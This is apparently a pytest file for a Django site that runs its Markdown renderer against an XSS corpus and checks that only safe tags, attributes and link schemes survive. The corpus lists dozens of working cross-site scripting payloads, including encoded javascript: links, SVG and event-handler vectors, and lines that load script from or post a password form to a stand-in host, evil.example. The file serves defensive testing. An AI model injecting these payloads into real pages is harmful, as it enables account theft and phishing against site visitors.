"""Markdown bodies against an XSS corpus: whatever an editor or an import writes, what
reaches the page is the small set of tags Markdown makes, with http(s) and mailto links."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from crossroads.content.markup import render_markdown
from tests.factories import StoryFactory

pytestmark = pytest.mark.django_db

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[click](%6A%61%76%61script:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://example.org "title" onclick="alert(1)")',
    '[x](https://example.org"onmouseover="alert(1))',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "* <a href=javascript:alert(1)>x</a>",
    "\x00<script>alert(1)</script>",
    '<p title="</p><script>alert(1)</script>">x</p>',
]

ALLOWED = {
    "p", "br", "hr", "em", "strong", "del", "code", "pre", "blockquote",
    "ul", "ol", "li", "h2", "h3", "h4", "a", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class Elements(HTMLParser):
    """The elements of an HTML fragment, as a browser's parser sees them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def problems(html: str) -> list[str]:
    """Every element, attribute or link outside what Markdown may make."""
    found = []
    for tag, attrs in Elements(html).found:
        if tag not in ALLOWED:
            found.append(f"element {tag}")
        found += [f"{tag} {name}" for name in attrs if name not in ATTRIBUTES.get(tag, set())]
        href = attrs.get("href") or ""
        # A browser ignores spaces and control characters in a scheme: none may be there.
        if tag == "a" and (
            urlsplit(href).scheme.lower() not in SAFE_SCHEMES or not href.isprintable()
        ):
            found.append(f"link {href!r}")
    return found


@pytest.mark.parametrize("payload", CORPUS)
def test_nothing_dangerous_survives_rendering(payload):
    html = str(render_markdown(payload))

    assert problems(html) == [], html


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"),
        ("[click](javascript:alert(1))", "<p>[click](javascript:alert(1))</p>\n"),
        ('<img src=x onerror="alert(1)">', '<p>&lt;img src=x onerror="alert(1)"&gt;</p>\n'),
        (
            "[site](https://example.org)",
            '<p><a href="https://example.org" rel="nofollow noopener">site</a></p>\n',
        ),
        (
            "[mail](mailto:team@example.org)",
            '<p><a href="mailto:team@example.org" rel="nofollow noopener">mail</a></p>\n',
        ),
        ("![img](https://example.org/x.png)", "<p></p>\n"),
    ],
)
def test_markup_is_escaped_and_safe_links_kept(payload, expected):
    assert render_markdown(payload) == expected


def test_a_hostile_body_is_harmless_on_its_page(client):
    # (A database cannot store NUL characters: forms refuse them before they get there.)
    story = StoryFactory(body="\n\n".join(text for text in CORPUS if "\x00" not in text))

    response = client.get(story.get_absolute_url())

    assert response.status_code == 200
    body = response.content.decode().split('class="main-col body"', 1)[1].split("</div>", 1)[0]
    assert problems(body) == [], body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
